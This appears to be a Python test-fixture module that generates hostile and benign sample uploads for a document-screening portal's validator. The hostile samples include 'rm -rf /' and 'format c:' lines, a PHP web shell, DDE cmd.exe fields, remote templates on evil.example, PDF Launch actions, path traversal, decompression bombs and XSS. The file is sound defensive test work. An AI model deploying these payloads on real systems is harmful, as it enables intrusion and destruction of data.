"""About sixty files that somebody sends by mistake or by malice, made here, and a few that anybody may send.

Each hostile one is (name, content, a piece of the reason that is given); each good one (name, content, ending).
"""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from email.message import EmailMessage

import openpyxl
import pillow_heif
from PIL import Image
from PIL.ExifTags import IFD

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
OLE = bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 504
NAMESPACE = "http://schemas.openxmlformats.org/package/2006/content-types"
TYPES = '<?xml version="1.0"?><Types xmlns="' + NAMESPACE + '">{}</Types>'
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
WORD = f'<Override PartName="/word/document.xml" ContentType="{MAIN}"/>'


def zipped(**entries: bytes | str) -> bytes:
    return packed({name.replace("__", "/"): content for name, content in entries.items()})


def packed(entries: dict[str, bytes | str], before: bytes = b"") -> bytes:
    out = io.BytesIO()
    out.write(before)
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in entries.items():
            file.writestr(name, content)
    return out.getvalue()


def docx(more: dict[str, bytes | str] | None = None, types: str = WORD) -> bytes:
    entries = {"[Content_Types].xml": TYPES.format(types), "word/document.xml": "<w:document/>"}
    return packed({**entries, **(more or {})})


def xlsx() -> bytes:
    out = io.BytesIO()
    book = openpyxl.Workbook()
    book.active["A1"] = "Chronology"
    book.save(out)
    return out.getvalue()


def pdf(inside: bytes = b"", end: bytes = b"\nstartxref\n9\n%%EOF\n") -> bytes:
    return b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n" + inside + b"\ntrailer<</Root 1 0 R>>" + end


def image(kind: str = "JPEG", size: tuple[int, int] = (40, 30), **more: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "navy").save(out, kind, **more)  # type: ignore[arg-type]
    return out.getvalue()


def photo_with_a_place() -> bytes:
    """A JPG that says where, when and with what it was taken, turned on its side."""
    picture = Image.new("RGB", (40, 30), "navy")
    exif = picture.getexif()
    exif[0x010F], exif[0x0112], exif[0x0132] = "Canary Camera", 6, "2026:11:24 09:00:00"
    exif.get_ifd(IFD.GPSInfo).update({1: "N", 2: (51.0, 23.0, 24.0), 3: "E", 4: (0.0, 32.0, 3.0)})
    out = io.BytesIO()
    picture.save(out, "JPEG", exif=exif, comment=b"Canary comment")
    return out.getvalue()


def heic() -> bytes:
    out = io.BytesIO()
    pillow_heif.from_pillow(Image.new("RGB", (64, 64), "teal")).save(out)
    return out.getvalue()


def png_bomb(width: int, height: int) -> bytes:
    """A picture whose few bytes claim to be enormous."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 999)) + chunk(b"IEND", b"")
    )


def eml(attached: bytes | None = None, name: str = "", nested: EmailMessage | None = None) -> bytes:
    return message(attached, name, nested).as_bytes()


def message(attached: bytes | None = None, name: str = "", nested: EmailMessage | None = None) -> EmailMessage:
    told = EmailMessage()
    told["From"], told["To"], told["Subject"] = "a@school.example", "b@door.example", "What we saw"
    told.set_content("As we said on the telephone.")
    if attached is not None:
        told.add_attachment(attached, maintype="application", subtype="octet-stream", filename=name)
    if nested is not None:
        told.add_attachment(nested)
    return told


def nested_emails(depth: int) -> EmailMessage:
    told = message()
    for _ in range(depth):
        told = message(nested=told)
    return told


def msg(more: str = "") -> bytes:
    return OLE + "__properties_version1.0".encode("utf-16-le") + b"\0" * 64 + more.encode("utf-16-le") + b"\0\0" * 32


def tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as file:
        told = tarfile.TarInfo("notes.txt")
        told.size = 4
        file.addfile(told, io.BytesIO(b"note"))
    return out.getvalue()


EXE = b"MZ\x90\0\x03\0\0\0" + b"\0" * 56 + b"PE\0\0" + b"\0" * 64


def locked(content: bytes) -> bytes:
    """A zip whose every entry says that it is encrypted."""
    told = bytearray(content)
    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = told.find(sign)
        while at >= 0:
            told[at + place] |= 1
            at = told.find(sign, at + 4)
    return bytes(told)


DDE = '<w:document><w:instrText xml:space="preserve"> DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:document>'
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def related(kind: str, target: str, place: str = "word/_rels/settings.xml.rels") -> bytes:
    """A document with a relation to something that lies elsewhere."""
    told = f'<Relationships><Relationship Id="r1" Type="{RELATIONS}{kind}" Target="{target}" TargetMode="External"/>'
    return docx({place: f"{told}</Relationships>"})


def relations(told: str, encoding: str = "utf-8") -> bytes:
    return docx({"word/_rels/settings.xml.rels": f"<Relationships>{told}</Relationships>".encode(encoding)})


TEMPLATE = f'Type="{RELATIONS}attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"'
SPLIT = (
    '<w:p><w:fldChar w:fldCharType="begin"/><w:instrText>D</w:instrText><w:instrText>DEAUTO c:\\cmd</w:instrText>'
    '<w:fldChar w:fldCharType="end"/></w:p>'
)
HEADERS = b"From: a@b.example\nTo: c@d.example\nSubject: x\n"


def takes_long() -> list[tuple[str, bytes, str]]:
    """Small files that took whoever looked into them seconds to hours, for all that the portal answered meanwhile."""
    scanned = image(progressive=True)
    scan = scanned[scanned.index(b"\xff\xda") : scanned.index(b"\xff\xda", scanned.index(b"\xff\xda") + 2)]
    deep = b"".join(b'Content-Type: multipart/mixed; boundary="b%d"\n\n--b%d\n' % (n, n) for n in range(600))
    inner = docx({f"word/{n}.xml": "<x/>" for n in range(1_000)})
    return [
        ("endless.rels.docx", docx({"word/_rels/document.xml.rels": b"<Relationship " * 50_000}), "is damaged"),
        ("endless.instr.docx", docx({"word/x.xml": b"<w:instrText " * 50_000}), "is damaged"),
        ("laughs.docx", docx({"word/x.xml": '<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'}), "is damaged"),
        ("huge part.docx", docx({"word/x.xml": b"<x>" + b" " * 61_000_000 + b"</x>"}), "far more than its size"),
        ("dolls.docx", docx({f"word/embeddings/{n}.docx": inner for n in range(6)}), "far more than its size"),
        ("scans.jpg", scanned.replace(scan, scan * 200), "takes too long"),
        ("parameters.eml", HEADERS + b"Content-Type: text/plain" + b";" * 400_000 + b"\n\nhi\n", "more parts"),
        ("folded.eml", HEADERS + b"content-type: text/plain" + b";;;;\n " * 9_000 + b"\n\nhi\n", "more parts"),
        ("nested.eml", HEADERS + deep + b"x\n" * 40_000, "more parts"),
        ("lines.eml", HEADERS + b"\n" + b"x\n" * 600_000, "more parts"),
    ]


def bomb_entries() -> dict[str, bytes | str]:
    return {f"word/media/{n}.bin": b"\0" * 60_000_000 for n in range(4)}


def hostile() -> list[tuple[str, bytes, str]]:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    macro = docx(types=WORD + '<Default ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>')
    return [
        ("plan.pdf", EXE, "is a program"),
        ("plan.exe", EXE, "is a program"),
        ("plan.pdf.exe", EXE, "is a program"),
        ("\u202efdp.exe", EXE, "is a program"),
        ("photo.jpg", b"\x7fELF\x02\x01\x01" + b"\0" * 64, "is a program"),
        ("mac.pdf", b"\xcf\xfa\xed\xfe" + b"\0" * 64, "is a program"),
        ("applet.png", b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\0" * 64, "is a program"),
        ("run.docx", b"#!/bin/sh\nrm -rf /\n", "is a program"),
        ("run.pdf", b"@echo off\r\nformat c:\r\n", "is a program"),
        ("link.pdf", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 64, "is a program"),
        ("shell.png", b"<?php system($_GET['c']); ?>", "is a program"),
        ("eicar.com", EICAR, "is a program"),
        ("eicar.pdf", EICAR, "is a program"),
        ("eicar.zip", zipped(eicar=EICAR), "is an archive"),
        ("eicar2.zip", packed({"one.zip": zipped(eicar=EICAR)}), "is an archive"),
        ("eicar.docx", zipped(eicar=EICAR), "is an archive"),
        ("notes.zip", zipped(notes="a"), "is an archive"),
        ("empty.zip", b"PK\x05\x06" + b"\0" * 18, "is an archive"),
        ("notes.rar", b"Rar!\x1a\x07\x00" + b"\0" * 64, "is an archive"),
        ("notes.7z", b"7z\xbc\xaf\x27\x1c" + b"\0" * 64, "is an archive"),
        ("notes.gz", gzip.compress(b"a" * 999), "is an archive"),
        ("bomb.gz", gzip.compress(b"\0" * 30_000_000), "is an archive"),
        ("notes.bz2", b"BZh91AY&SY" + b"\0" * 64, "is an archive"),
        ("notes.xz", b"\xfd7zXZ\0" + b"\0" * 64, "is an archive"),
        ("notes.tar", tar(), "is an archive"),
        ("notes.cab", b"MSCF" + b"\0" * 64, "is an archive"),
        ("disk.iso", b"\0" * 32769 + b"CD001" + b"\0" * 64, "is an archive"),
        ("bomb.docx", docx(bomb_entries()), "unpacks to far more"),
        ("many.docx", docx({f"word/{n}.xml": "" for n in range(5_100)}), "unpacks to far more"),
        ("macro.docm", macro, "has macros"),
        ("macro.docx", docx({"word/vbaProject.bin": b"x"}), "has macros"),
        ("macro.xlsx", packed({"[Content_Types].xml": TYPES, "xl/macrosheets/sheet1.xml": "<x/>"}), "has macros"),
        ("within.docx", docx({"word/embeddings/evil.exe": EXE}), "has another file inside"),
        ("packed.docx", docx({"word/embeddings/more.zip": zipped(a="b")}), "has another file inside"),
        ("object.docx", docx({"word/embeddings/oleObject1.bin": b"x"}), "has another file inside"),
        ("prefixed.docx", relations(f"<r:Relationship {TEMPLATE}/>"), "fetched from elsewhere"),
        ("sign in a value.docx", relations(f'<Relationship Id="a>b" {TEMPLATE}/>'), "fetched from elsewhere"),
        ("wide.docx", relations(f"<Relationship {TEMPLATE}/>", "utf-16"), "fetched from elsewhere"),
        ("split.docx", docx({"word/x.xml": f"<w:document>{SPLIT}</w:document>"}), "fetched from elsewhere"),
        ("simple.docx", docx({"word/x.xml": '<w:fldSimple w:instr=" DDE cmd a"/>'}), "fetched from elsewhere"),
        *takes_long(),
        ("slip.docx", docx({"../../etc/cron.d/x": "x"}), "is damaged"),
        (
            "slides.pptx",
            packed({"[Content_Types].xml": TYPES.format(""), "ppt/presentation.xml": "<x/>"}),
            "Office file of a kind",
        ),
        ("broken.docx", docx()[:200], "can’t be opened"),
        ("junk.docx", b"PK\x03\x04" + b"\xff" * 500, "can’t be opened"),
        ("old.doc", OLE + "WordDocument".encode("utf-16-le"), "older Office format"),
        ("old.xls", OLE + "Workbook".encode("utf-16-le"), "older Office format"),
        ("old-macro.doc", OLE + "WordDocument_VBA_PROJECT".encode("utf-16-le"), "has macros"),
        ("locked.docx", OLE + "EncryptedPackage".encode("utf-16-le"), "locked with a password"),
        ("evil.msg", msg("invoice.exe\0"), "a program or macros attached"),
        ("packed.msg", msg("documents.ZIP\0"), "an archive attached"),
        ("drawing.svg", svg, "web page or a drawing"),
        ("drawing.png", svg, "web page or a drawing"),
        ("page.html", b"<!DOCTYPE html><script>alert(1)</script>", "web page or a drawing"),
        ("page.pdf", b"\xef\xbb\xbf  <html><body>", "web page or a drawing"),
        ("notes.rtf", b"{\\rtf1\\ansi hello}", "older format (RTF)"),
        ("polyglot.pdf", pdf() + zipped(run=EXE), "two kinds of file in one"),
        ("short.pdf", b"%PDF-1.7\nnothing more", "breaks off"),
        ("launch.pdf", pdf(b"2 0 obj<</S/Launch/F(cmd.exe)>>endobj"), "another file inside"),
        ("with.pdf", pdf(b"2 0 obj<</EmbeddedFiles 3 0 R>>endobj"), "another file inside"),
        ("bomb.png", png_bomb(60_000, 60_000), "too large to open"),
        ("big.png", png_bomb(9_000, 9_000), "too large to open"),
        ("broken.jpg", b"\xff\xd8\xff\xe0" + b"junk" * 100, "can’t be opened"),
        ("half.png", image("PNG", (400, 300))[:200], "can’t be opened"),
        ("broken.heic", b"\0\0\0\x18ftypheic" + b"\0" * 400, "can’t be opened"),
        ("film.mp4", b"\0\0\0\x18ftypisom" + b"\0" * 400, "can’t be opened"),
        ("picture.gif", image("GIF"), "of a kind that we can’t take"),
        ("picture.bmp", image("BMP"), "of a kind that we can’t take"),
        ("notes.txt", b"Robin was seen on Monday.", "of a kind that we can’t take"),
        ("noise.pdf", bytes(range(256)) * 40, "ends in .pdf, but is not a PDF. Find what"),
        ("empty.pdf", b"", "is empty"),
        ("picture.docx", docx({"word/media/image1.png": EXE}), "has another file inside"),
        ("eicar-picture.docx", docx({"word/media/image1.png": EICAR}), "has another file inside"),
        ("zip-picture.docx", docx({"word/media/image1.png": zipped(eicar=EICAR)}), "has another file inside"),
        ("old-inside.docx", docx({"word/embeddings/old.xls": OLE}), "has another file inside"),
        ("locked-zip.docx", docx({"word/embeddings/a.bin": locked(zipped(a=EXE))}), "has another file inside"),
        ("locked-parts.docx", locked(docx()), "locked with a password"),
        ("macro-inside.docx", docx({"word/embeddings/a.xlsx": macro}), "has macros"),
        (
            "eicar-inside.docx",
            docx({"word/embeddings/a.docx": docx({"word/media/b.emf": EICAR})}),
            "another file inside",
        ),
        ("template.docx", related("attachedTemplate", "https://evil.example/a.dotm"), "fetched from elsewhere"),
        ("template2.docx", related("attachedTemplate", "&#104;ttp://evil.example/a.dotm"), "fetched from elsewhere"),
        (
            "object2.docx",
            related("oleObject", "mhtml:https://evil.example/a!x", "word/_rels/document.xml.rels"),
            "fetched from",
        ),
        (
            "dde.docx",
            packed({"[Content_Types].xml": TYPES.format(WORD), "word/document.xml": DDE}),
            "fetched from elsewhere",
        ),
        (
            "dde.xlsx",
            packed({"[Content_Types].xml": TYPES, "xl/externalLinks/a.xml": "<ddeLink ddeService='cmd'/>"}),
            "fetched from",
        ),
        ("spelt.pdf", pdf(b"2 0 obj<</S/#4c#61unch/F(cmd.exe)>>endobj"), "another file inside"),
        ("spelt2.pdf", pdf(b"2 0 obj<</Embedded#46iles 3 0 R>>endobj"), "another file inside"),
        ("script.pdf", b"<script>alert(1)</script>" + pdf(), "web page or a drawing"),
        ("program.pdf", EXE + pdf(), "is a program"),
        ("gif.js", b"GIF89a=1;alert(1)", "can’t take"),
        ("script.heic", heic()[:200] + b"<script>alert(1)</script>", "can’t be opened"),
        ("script.msg", msg("notes.js\0"), "a program or macros attached"),
        ("page.msg", msg("notes.HTA\0"), "a program or macros attached"),
        ("eicar.eml", eml(EICAR, "note.txt"), "a program attached"),
        ("eicar2.eml", eml(nested=message(zipped(eicar=EICAR), "plan.pdf")), "is an archive"),
        ("evil.eml", eml(EXE, "invoice.pdf"), "a program attached"),
        ("script.eml", eml(b"WScript.Echo 1", "invoice.vbs"), "a program attached"),
        ("packed.eml", eml(zipped(a="b"), "documents.zip"), "is an archive"),
        ("macro.eml", eml(macro, "plan.docx"), "has macros"),
        ("deep.eml", nested_emails(6).as_bytes(), "too deep"),
        ("inner.eml", eml(nested=message(EXE, "x.pdf")), "a program attached"),
    ]


def good() -> list[tuple[str, bytes, str]]:
    return [
        ("plan.pdf", pdf(), "pdf"),
        ("plan.docx", docx(), "docx"),
        ("chronology.xlsx", xlsx(), "xlsx"),
        ("photo.jpg", photo_with_a_place(), "jpg"),
        ("called a PDF.pdf", image("PNG"), "png"),
        ("IMG_0001.HEIC", heic(), "heic"),
        ("what we saw.eml", eml(pdf(), "plan.pdf"), "eml"),
        ("what we saw.msg", msg("plan.pdf\0"), "msg"),
        ("ר.pdf", pdf(b"% \xe2\x80\x8f"), "pdf"),
        ("n" * 400 + ".docx", docx({"word/a.xml": "<a/>"}), "docx"),
        ("../../etc/passwd", pdf(b"% up"), "pdf"),
        ("C:\\notes\\plan.pdf", pdf(b"% windows"), "pdf"),
        ("😀.png", image("PNG", (3, 3)), "png"),
        ("chart.docx", docx({"word/embeddings/Chart.xlsx": xlsx(), "word/media/a.emz": gzip.compress(b"a")}), "docx"),
        ("council.docx", related("attachedTemplate", "file:///C:\\\\Templates\\\\Council.dotx"), "docx"),
        ("built up.jpg", image(progressive=True), "jpg"),
        ("fields.docx", docx({"word/x.xml": "<w:p><w:instrText> PAGEREF DDE \\h</w:instrText></w:p>"}), "docx"),
        ("linked.docx", related("hyperlink", "https://school.example/", "word/_rels/document.xml.rels"), "docx"),
    ]
